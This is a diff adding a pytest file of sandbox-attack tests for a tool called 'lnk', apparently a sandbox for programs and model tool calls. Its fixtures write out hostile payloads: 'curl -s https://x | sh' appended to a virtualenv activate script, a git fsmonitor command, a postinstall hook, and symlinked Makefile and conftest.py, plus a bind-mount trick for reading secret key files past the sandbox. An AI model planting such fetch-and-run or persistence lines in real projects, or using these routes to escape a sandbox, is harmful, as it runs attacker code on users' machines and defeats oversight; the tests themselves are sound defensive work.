@@ -1,0 +1,139 @@
+"""Attacks of the third pass: the tools broker, identity, the changes report
+(docs/design.md, "Security invariants"; docs/runs-outside.md).
+
+Each test PASSES when the sandbox holds and FAILS when the attack works. They
+run as an unprivileged user and as root.
+"""
+import json
+import os
+import subprocess
+
+from conftest import IS_ROOT
+
+
+def in_private_mounts(lnk, script):
+    """Runs sh SCRIPT in a mount namespace of its own (a user namespace too
+    when not root), with lnk's environment; returns the CompletedProcess."""
+    pre = ["unshare", "-m", "--propagation", "private"]
+    if not IS_ROOT:
+        pre = ["unshare", "-r", "-m", "--propagation", "private"]
+    return subprocess.run([*pre, "/bin/sh", "-c", script], env=lnk.env(),
+                          cwd=str(lnk.cwd), capture_output=True, text=True,
+                          timeout=60)
+
+
+def lnk_cmd(lnk):
+    """lnk as the shell of in_private_mounts starts it: as a user, in a user
+    namespace below the one that mounted, as a user that is not root there
+    either (what a user's bind mount of their home looks like to lnk)."""
+    if IS_ROOT:
+        return f"'{lnk.bin}'"
+    return (f"unshare --user --map-user={os.getuid()} "
+            f"--map-group={os.getgid()} '{lnk.bin}'")
+
+
+# --- invariant 1: a tool's view hides lnk's settings at every path ---------
+
+def test_tool_never_reads_lnks_settings_at_a_second_path(lnk, home, work,
+                                                         tmp_path):
+    """Invariant 1 (never ~/.lnk), through a tool. Threat: the home is also
+    mounted at a second path (/home bound from /data/home). A tool runs
+    outside with the machine as the user sees it, except ~/.lnk and the
+    hidden folders, which its view covered at their one spelling only:
+    `cat /data/home/.lnk/sandbox/NAME.key` through a granted `cat *` read
+    the model keys, the call log, the questions and their answers."""
+    key = home / ".lnk" / "sandbox" / "probe.key"
+    cp = lnk.run("--write", work, "--", "/bin/true")
+    assert cp.returncode == 0, cp.stderr
+    key.write_text("LNKSECRET\n")
+    key.chmod(0o600)
+    private = work / "private"
+    private.mkdir()
+    (private / "s").write_text("HIDDENSECRET\n")
+    second = tmp_path / "second"
+    second.mkdir()
+    cp = in_private_mounts(lnk, f"""
+        mount --bind '{home}' '{second}' || exit 99
+        {lnk_cmd(lnk)} sandbox run --write '{work}' --hide '{private}' \
+            --tool 'cat *' -- /bin/sh -c '
+            cat "{second}/.lnk/sandbox/probe.key"
+            cat "{second}/project/private/s"
+            echo ran'
+        """)
+    assert cp.returncode != 99, cp.stderr
+    assert "ran" in cp.stdout, (cp.stdout, cp.stderr)
+    assert "LNKSECRET" not in cp.stdout + cp.stderr
+    assert "HIDDENSECRET" not in cp.stdout + cp.stderr
+
+
+# --- invariant 8: the changes report names what runs later -----------------
+
+def changes_flags(lnk, name):
+    cp = lnk("sandbox", "changes", name, "--json")
+    assert cp.returncode == 0, cp.stderr
+    reports = [json.loads(x) for x in cp.stdout.splitlines()]
+    assert reports, cp.stdout
+    return {f["path"]: f["reason"]
+            for f in reports[0]["folders"][0]["flags"]}
+
+
+LINKED_NAMES = r"""
+set -e
+printf 'all:\n\ttouch /tmp/pwned\n' > evil.mk; ln -s evil.mk Makefile
+echo 'import os' > cf.py; ln -s cf.py conftest.py
+echo '{"scripts":{"postinstall":"id"}}' > p.json; ln -s p.json package.json
+echo 'import os' > rl.py; ln -s rl.py readline.py
+mkdir sub; echo 'x' > sub/y.txt; ln -s y.txt sub/eslint.config.js
+echo 'import os' > sc.py; ln -s ../sc.py sub/sitecustomize.py
+mkdir -p repo/.git/modules/m; echo 'ref: x' > repo/.git/HEAD
+printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/notes.txt
+ln -s ../../../notes.txt repo/.git/modules/m/config
+"""
+
+
+def test_a_link_named_like_what_runs_later_is_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), the changes report. Threat:
+    make, pytest, npm, python and git follow a link: `Makefile -> evil.mk`
+    runs evil.mk at the next make. The report judged a link only by where
+    its text points, and its rows by a regular file's name: a link named
+    Makefile, conftest.py, package.json, readline.py, eslint.config.js,
+    sitecustomize.py or a git config, to a file of an innocent name inside
+    the folder, was counted and named nowhere."""
+    cp = lnk.run("--write", work, "--name", "linked", "--", "/bin/sh", "-c",
+                 LINKED_NAMES)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "linked")
+    for path in ("Makefile", "conftest.py", "package.json", "readline.py",
+                 "sub/eslint.config.js", "sub/sitecustomize.py",
+                 "repo/.git/modules/m/config"):
+        assert path in flags, (path, flags)
+        assert f"project/{path}: " in cp.stderr, cp.stderr
+
+
+VENV = r"""
+set -e
+echo 'curl -s https://x | sh' >> .venv/bin/activate
+echo 'eval "$(curl -s https://x)"' > .venv/bin/activate.fish
+printf 'home = %s/evil/bin\n' "$PWD" > .venv/pyvenv.cfg
+"""
+
+
+def test_virtualenv_activate_and_its_settings_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), the changes report. Threat:
+    `source .venv/bin/activate` runs that file in the user's own shell, and
+    `home` in pyvenv.cfg names where the environment's python finds its
+    standard library (site.py, encodings: run at every start). Neither is
+    executable, so a program that rewrote them was counted and named
+    nowhere; the user's next activation ran its code."""
+    venv = work / ".venv"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (venv / "bin" / "activate").write_text("# activate\n")
+    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
+    cp = lnk.run("--write", work, "--name", "venv", "--", "/bin/sh", "-c",
+                 f"cd '{work}' && {VENV}")
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "venv")
+    for path in (".venv/bin/activate", ".venv/bin/activate.fish",
+                 ".venv/pyvenv.cfg"):
+        assert path in flags, (path, flags)
